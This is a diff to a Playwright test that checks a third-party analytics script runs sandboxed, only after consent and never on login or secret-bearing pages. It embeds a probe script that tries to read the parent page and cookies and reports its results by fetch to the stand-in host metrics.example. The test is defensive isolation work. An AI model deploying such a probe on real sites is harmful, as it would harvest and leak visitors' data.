@@ -13,7 +13,24 @@ const { language, words } = spokenIn(import.meta.filename)
 const counter = 'https://metrics.example/counter.js'
 test.afterEach(() => reset('metricsScript'))
 
-const counted = (page: Page) => page.evaluate(() => (window as { counted?: number }).counted ?? 0)
+const counterFrame = (page: Page) => page.frames().find((frame) => frame.url().includes('/platform/counter?'))
+const told = (page: Page) => {
+  const address = counterFrame(page)?.url()
+  return address ? new URL(new URL(address).searchParams.get('page') ?? '').pathname : null
+}
+
+/** What a script of the counter tries at the pages of the platform; it tells what it came to. */
+const attack = `(async () => {
+  const tries = {
+    origin: () => (origin === 'null' ? Promise.reject() : 1),
+    page: () => parent.document.body,
+    cookie: () => document.cookie + 'x',
+  }
+  const got = []
+  for (const [name, attempt] of Object.entries(tries))
+    try { await attempt(); got.push(name) } catch {}
+  fetch('https://metrics.example/hit?got=' + got.join())
+})()`
 
 test('the analytics counter runs where people read, after the consent, and never where they type', async ({
   page,
@@ -24,9 +41,13 @@ test('the analytics counter runs where people read, after the consent, and never
   await speak(context, language, baseURL)
   const hits: string[] = []
   await context.route('https://metrics.example/**', (route) => {
-    hits.push(new URL(route.request().url()).pathname)
-    const body = 'window.counted = (window.counted ?? 0) + 1; fetch("https://metrics.example/hit")'
-    return route.fulfill({ contentType: 'text/javascript', headers: { 'access-control-allow-origin': '*' }, body })
+    const { pathname, search } = new URL(route.request().url())
+    hits.push(pathname + search)
+    return route.fulfill({
+      contentType: 'text/javascript',
+      headers: { 'access-control-allow-origin': '*' },
+      body: attack,
+    })
   })
   await store({ metricsScript: counter })
   // the server reads its settings anew when it is notified
@@ -37,27 +58,26 @@ test('the analytics counter runs where people read, after the consent, and never
   await expect(accept).toBeVisible()
   expect(hits).toEqual([])
   await accept.click()
-  await expect.poll(() => hits).toEqual(['/counter.js', '/hit'])
+  // it runs, and comes to nothing of the platform
+  await expect.poll(() => hits).toEqual(['/counter.js', '/hit?got='])
+  expect(told(page)).toBe('/platform/law/cookies')
   await page.reload()
-  await expect.poll(() => counted(page)).toBe(1)
-  // a link to where something is typed loads a whole page, which ends the script
+  await expect.poll(() => told(page)).toBe('/platform/law/cookies')
+  // where something is typed there is no counter, and it is back where people read
   await page.getByRole('link', { name: words.common.signIn, exact: true }).click()
   await takenOver(page)
   await expect(page).toHaveURL(/\/platform\/login/)
-  expect(await counted(page)).toBe(0)
-  await expect(page.locator('script[data-metrics]')).toHaveCount(0)
-  // back to where people read is a whole page too, with the counter
+  await expect(page.locator('iframe[data-metrics]')).toHaveCount(0)
+  expect(told(page)).toBeNull()
   await page.locator('a[href^="/platform/law/"]').first().click()
   await expect(page).toHaveURL(/\/platform\/law\//)
-  await expect.poll(() => counted(page)).toBe(1)
+  await expect.poll(() => told(page)).toMatch(/^\/platform\/law\//)
   // an address that contains a secret must not reach the counter
   await page.goto(`/platform/login?path=/platform/invitation/${randomUUID()}`)
   await expect(page.locator('h1')).toBeVisible()
-  await expect(page.locator('script[data-metrics]')).toHaveCount(0)
-  expect(await counted(page)).toBe(0)
+  expect(told(page)).toBeNull()
   await asOwn(context, 'noServices', language)
   await page.goto('/platform/profile')
   await takenOver(page)
-  await expect(page.locator('script[data-metrics]')).toHaveCount(0)
-  expect(await counted(page)).toBe(0)
+  expect(told(page)).toBeNull()
 })
